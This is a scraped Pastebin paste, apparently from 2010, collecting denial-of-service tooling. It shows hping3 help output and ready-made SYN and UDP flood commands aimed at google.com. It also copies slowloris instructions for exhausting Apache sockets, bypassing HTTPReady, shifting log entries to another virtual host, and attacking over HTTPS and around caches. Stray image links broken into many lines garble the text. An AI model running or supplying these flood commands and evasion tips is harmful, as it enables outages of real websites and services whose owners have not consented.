G2A Many GEOs


a guest Dec 9th, 2010 4,421 Never
Not a member of Pastebin yet? Sign Up, it unlocks many cool features!
  1. perl slowloris.pl
  2.      mt_pulse.pl
  5. USAGE:  ./mt_pulse.pl A B
  6.          A: KBPS to pulse (set to your upstream for best result)
  7.          B: Target host or IP. (eg. radicalsroar.com OR10. cd pentbox
  11. ruby pentbox.rb
  12. cd hydra/
  13. cd nikto/nikto.pl
  14. hping3
  16. Usage
  17. Regardless of which Hping you get, the command to flood a target is as follows:
  18. hping[2 or 3] [TARGET] -p [PORT] --flood [PACKET TYPE] [OTHER OPTIONS]
  19. You can read the manpage for hping by typing
  20. man hping[2 or 3]21. Or you can invoke help menu with the --help arg
  22. root@thegame:~# hping3 --help
  23. usage: hping3 host [options]
  24.   -h  --help      show this help
  25.   -v  --version   show version
  26.   -c  --count     packet count
  27.   -i  --interval  wait (uX for X microseconds, for example -i u1000)
  28.       --fast      alias for -i u10000 (10 packets for second)
  29.       --faster    alias for -i u1000 (100 packets for second)
  30.       --flood      sent packets as fast as possible. Don't show replies.
  31.   -n  --numeric   numeric output
  32.   -q  --quiet     quiet
  33.   -I  --interface interface name (otherwise default routing interface)
  34.   -V  --verbose   verbose mode
  35.   -D  --debug     debugging info
  36.   -z  --bind      bind ctrl+z to ttl           (default to dst port)37.   -Z  --unbind    unbind ctrl+z
  38.       --beep      beep for every matching packet received
  39. Mode
  40.   default mode     TCP
  41.   -0  --rawip      RAW IP mode
  42.   -1  --icmp       ICMP mode
  43.   -2  --udp        UDP mode
  44.   -8  --scan       SCAN mode.
  45.                    Example: hping --scan 1-30,70-90 -S www.target.host
  46.   -9  --listen     listen mode
  47. IP
  48.   -a  --spoof      spoof source address
  49.   --rand-dest      random destionation address mode. see the man.
  50.   --rand-source    random source address mode. see the man.
  51.   -t  --ttl        ttl (default 64)
  52.   -N  --id         id (default random)
  53.   -W  --winid      use win* id byte ordering
  54.   -r  --rel        relativize id field          (to estimate host traffic)
  55.   -f  --frag       split packets in more frag.  (may pass weak acl)
  56.   -x  --morefrag   set more fragments flag
  57.   -y  --dontfrag   set dont fragment flag
  58.   -g  --fragoff    set the fragment offset
  59.   -m  --mtu        set virtual mtu, implies --frag if packet size > mtu
  60.   -o  --tos        type of service(default 0x00), try --tos help
  61.   -G  --rroute     includes RECORD_ROUTE option and display the route buffer
  62.   --lsrr           loose source routing and record route
  63.   --ssrr           strict source routing and record route
  64.   -H  --ipproto    set the IP protocol field, only in RAW IP mode
  65. ICMP
  66.   -C  --icmptype   icmp type (default echo request)
  67.   -K  --icmpcode   icmp code (default 0)
  68.       --force-icmp send all icmp types (default send only supported types)
  69.       --icmp-gw    setgateway address for ICMP redirect (default
  70.       --icmp-ts    Alias for --icmp --icmptype 13 (ICMP timestamp)
  71.       --icmp-addr  Alias for --icmp --icmptype 17 (ICMP address subnet mask)
  72.       --icmp-help  display help for others icmp options
  73. UDP/TCP
  74.   -s  --baseport   base source port             (default random)
  75.   -p  --destport   [+][+]<port> destination port(default 0) ctrl+z inc/dec
  76.   -k  --keep       keep still source port
  77.   -w  --win        winsize (default 64)
  78.   -O  --tcpoff     set fake tcp data offset     (instead of tcphdrlen / 4)
  79.   -Q  --seqnum     shows only tcp sequence number
  80.   -b  --badcksum   (try to) send packets with a bad IP checksum
  81.                    many systems will fix the IP checksum sending the packet
  82.                    so you'll get bad UDP/TCP checksum instead.
  83.   -M  --setseq     set TCP sequence number
  84.   -L  --setack     set TCP ack85.   -F  --fin        set FIN flag
  86.   -S  --syn        set SYN flag
  87.   -R  --rst        set RST flag
  88.   -P  --push       set PUSH flag
  89.   -A  --ack        set ACK flag
  90.   -U  --urg        set URG flag
  91.   -X  --xmas       set X unused flag (0x40)
  92.   -Y  --ymas       set Y unused flag (0x80)
  93.   --tcpexitcode    use last tcp->th_flags as exit code
  94.   --tcp-timestamp  enable the TCP timestamp option to guess the HZ/uptime
  95. Common
  96.   -d  --data       data size                    (default is 0)
  97.   -E  --file       data from file
  98.   -e  --sign       add 'signature'
  99.   -j  --dump       dump packets in hex
  100.   -J  --print      dump printable characters
  101.   -B  --safe       enable 'safe' protocol
  102.   -u  --end        tell you when --file reached EOF and prevent rewind
  103.   -T  --traceroute traceroute mode              (implies --bind and --ttl 1)
  104.   --tr-stop        Exit when receive the first not ICMP in traceroute mode
  105.   --tr-keep-ttl    Keep the source TTL fixed, useful to monitor just one hop
  106.   --tr-no-rtt       Don't calculate/show RTT information in traceroute mode
  107. ARS packet description (new, unstable)
  108.   --apd-send       Send the packet described with APD (see docs/APD.txt)
  109. Examples
  110. SYN flood google.com's port 80
  111. hping2 google.com -p 80 -i u30000 -S112. UDP flood google.com:
  113. hping3 google.com -p 80 -i u30000 --udp
  120. slowloris
  121. Perl slowloris.pl
  122.  If the timeouts are completely unknown, Slowloris comes with a mode to help you get started in your testing:
  124.        Testing Example:
  126.        ./slowloris.pl -dns www.example.com -port 80 -test
  128.        This won't give you a perfect number, but it should give you a pretty good guess as to where to shoot for.  If you
  129.        really must know the exact number, you may want to mess with the @times array (although I wouldn't suggest that
  130.        unless you know what you're doing).
  132.    HTTP DoS133.        Once you find a timeout window, you can tune Slowloris to use certain timeout windows.  For instance, if you know
  134.        that the server has a timeout of 3000 seconds, but the the connection is fairly latent you may want to make the
  135.        timeout window 2000 seconds and increase the TCP timeout to 5 seconds.  The following example uses 500 sockets.
  136.        Most average Apache servers, for instance, tend to fall down between 400-600 sockets with a default configuration.
  137.        Some are less than 300.  The smaller the timeout the faster you will consume all the available resources as other
  138.        sockets that are in use become available - this would be solved by threading, but that's for a future revision.
  139.        The closer you can get to the exact number of sockets, the better, because that will reduce the amount of tries
  140.        (and associated bandwidth) that Slowloris will make to be successful.  Slowloris has no way to identify if it's
  141.        successful or not though.
  143.        HTTP DoS Example:
  145.        ./slowloris.pl -dns www.example.com -port 80 -timeout 2000 -num 500 -tcpto 5
  147.    HTTPReady Bypass
  148.        HTTPReady only follows certain rules so with a switch Slowloris can bypass HTTPReady by sending the attack as a
  149.        POST verses a GET or HEAD requestwith the -httpready switch.
  151.        HTTPReady Bypass Example
  153.        ./slowloris.pl -dns www.example.com -port 80 -timeout 2000 -num 500 -tcpto 5 -httpready
  154.  If you know the server has multiple webservers running on it in virtual hosts, you can send the attack to a
  155.        seperate virtual host using the -shost variable.  This way the logs that are created will go to a different
  156.        virtual host log file, but only if they are kept separately.
  158.        Stealth Host DoS Example:
  160.        ./slowloris.pl -dns www.example.com -port 80 -timeout 30 -num 500 -tcpto 1 -shost www.virtualhost.com
  162.    HTTPS DoS
  163.        Slowloris does support SSL/TLS on an experimental basis with the -https switch.  The usefulness of this particular
  164.        option has not been thoroughly tested, and in fact has not proved to be particularly effective in the very few
  165.        tests I performed during the early phases of development.  Your mileage may vary.
  167.        HTTPS DoS Example:
  169.        ./slowloris.pl -dns www.example.com -port 443 -timeout 30 -num 500 -https
  171.    HTTP Cache
  172.        Slowloris does support cache avoidance on anexperimental basis with the -cache switch.  Some caching servers may
  173.        look at the request path part of the header, but by sending different requests each time you can abuse more
  174.        resources.  The usefulness of this particular option has not been thoroughly tested.  Your mileage may vary.
  176.        HTTP Cache Example:
  178.        ./slowloris.pl -dns www.example.com -port 80 -timeout 30 -num 500 -cache
  180. Issues
  181.        Slowloris is known to not work on several servers found in the NOT AFFECTED section above and through Netscalar
  182.        devices, in it's current incarnation.  They may be ways around this, but not in this version at this time.  Most
  183.        likely most anti-DDoS and load balancers won't be thwarted by Slowloris, unless Slowloris is extremely distrubted,
  184.        although only Netscalar has been tested.
  186.        Slowloris isn't completely quiet either, because it can't be.  Firstly, it does send out quite a few packets
  187.        (although far far less than a typical GET request flooder).  So it's not invisible if the traffic to the site is
  188.        typically fairly low.  On higher traffic sites it will unlikely that it is noticed in the log files - although you
  189.        may have trouble taking down a larger site with just one machine, depending on their architecture.
  190.      For some reason Slowloris works way better if run from a *Nix box than from Windows.  I would guess that it's
  191.        probably to do with the fact that Windows limits the amount of open sockets you can have at once to a fairly small
  192.        number.  If you find that you can't open any more ports than ~130 or so on any server you test - you're probably193.        running into this "feature" of modern operating systems.  Either way, this program seems to work best if run from194.        FreeBSD.
  196.        Once you stop the DoS all the sockets will naturally close with a flurry of RST and FIN packets, at which time the
  197.        web server or proxy server will write to it's logs with a lot of 400 (Bad Request) errors.  So while the sockets
  198.        remain open, you won't be in the logs, but once the sockets close you'll have quite a few entries all lined up
  199.        next to one another.  You will probably be easy to find if anyone is looking at their logs at that point -
  200.        although the DoS will be over by that point too.
  202. What is a slow loris?
  203.        What exactly is aslow loris?  It's an extremely cute but endangered mammal that happens to also be poisonous.
  204.        Check this out:
  206.        http://www.youtube.com/watch?v=rLdQ3UhLoD4
RAW Paste Data
Ledger Nano X - The secure hardware wallet
We use cookies for various purposes including analytics. By continuing to use Pastebin, you agree to our useof cookies as described in theCookies Policy. OK, I Understand